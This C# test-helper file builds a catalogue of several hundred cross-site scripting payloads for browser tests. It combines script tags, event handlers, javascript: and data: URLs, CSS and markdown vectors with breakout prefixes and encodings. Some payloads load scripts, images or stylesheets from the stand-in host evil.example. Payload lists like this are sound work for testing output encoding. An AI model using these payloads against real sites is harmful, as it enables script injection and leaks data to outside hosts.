namespace SynthCurate.Tests.Browser;

/// <summary>Texts that become scripts, forms or requests where somebody forgets to encode them: each way of attack in each way of breaking out.
/// Every text has a number, sets <c>window.pwned</c> or opens a dialog when it runs, and asks evil.example when it is loaded.</summary>
internal static class HostilePayloads
{
    /// <summary>What a page shows that shows one of the texts.</summary>
    public const string Mark = "pwned";

    private const string Run = "window.pwned={0};alert({0})";

    private static readonly string[] Vectors =
    [
        "<script>RUN</script>", "<ScRiPt >RUN</sCrIpT >", "<script src=//evil.example/pwned{0}.js></script>", "<img src=x onerror=RUN>", "<IMG/SRC=x/ONERROR=RUN//",
        "<img src=http://evil.example/pwned{0}.png>", "<svg onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
        "<math><mi xlink:href=javascript:RUN>pwned</mi></math>", "<iframe src=javascript:RUN></iframe>", "<iframe srcdoc='<script>parent.pwned={0}</script>'></iframe>",
        "<body onload=RUN>", "<details open ontoggle=RUN>", "<video src=x onerror=RUN>", "<audio src=//evil.example/pwned onerror=RUN>", "<input autofocus onfocus=RUN>",
        "<a href=javascript:RUN>pwned</a>", "<a href=\"java&#10;script:RUN\">pwned</a>", "<form action=javascript:RUN><button>pwned</button></form>",
        "<object data=javascript:RUN></object>", "<embed src=javascript:RUN>", "<base href=//evil.example/pwned{0}/>", "<link rel=stylesheet href=//evil.example/pwned{0}.css>",
        "<meta http-equiv=refresh content='0;url=javascript:RUN'>", "<style>*{{background:url(//evil.example/pwned{0})}}</style>", "<p style=background:url(//evil.example/pwned{0})>",
        "red;background:url(//evil.example/pwned{0})", "expression(RUN)", "[pwned](javascript:RUN)", "![pwned](http://evil.example/?q=pwned{0})", "[pwned](data:text/html,<script>RUN</script>)",
        "<javascript:RUN>", "javascript:RUN", "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+#pwned{0}", "vbscript:pwned({0})", "@(RUN)", "@onclick=\"RUN\"", "{{{{constructor.constructor('RUN')()}}}}",
        "${{RUN}}", "<!--Blazor:{{\"type\":\"server\",\"sequence\":{0},\"descriptor\":\"pwned\"}}-->", "<!--bl:{0}--><script>RUN</script>", "<template shadowrootmode=open><script>RUN</script></template>",
        "<x-pwned onclick=RUN tabindex=1 id=x{0} onfocus=RUN>", "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    ];

    private static readonly string[] Ways =
    [
        "{0}", "\">{0}", "'>{0}", "</script>{0}", "</textarea>{0}", "</title></style>{0}", "-->{0}<!--", "]]>{0}", "\" onmouseover=\"{0}\" x=\"", "\u202e{0}\u2066", "\u200b{0}\ufeff",
    ];

    private static readonly Func<string, string>[] Spellings = [text => text, Entities, Utf7];

    /// <summary>At least five hundred, all different.</summary>
    public static IReadOnlyList<string> All { get; } = Make();

    private static List<string> Make()
    {
        var all = new List<string>();
        foreach (var vector in Vectors)
        {
            foreach (var way in Ways)
                all.Add(way.Replace("{0}", Numbered(vector, all.Count), StringComparison.Ordinal));
            foreach (var spelling in Spellings.Skip(1))
                all.Add(spelling(Numbered(vector, all.Count)));
        }
        return all;
    }

    private static string Numbered(string vector, int number) => string.Format(
        System.Globalization.CultureInfo.InvariantCulture, vector.Replace("RUN", Run, StringComparison.Ordinal), number);

    private static string Entities(string text) => text.Replace("<", "&lt;", StringComparison.Ordinal).Replace(">", "&#x3e;", StringComparison.Ordinal).Replace("\"", "&quot;", StringComparison.Ordinal);

    private static string Utf7(string text) => text.Replace("<", "+ADw-", StringComparison.Ordinal).Replace(">", "+AD4-", StringComparison.Ordinal);
}
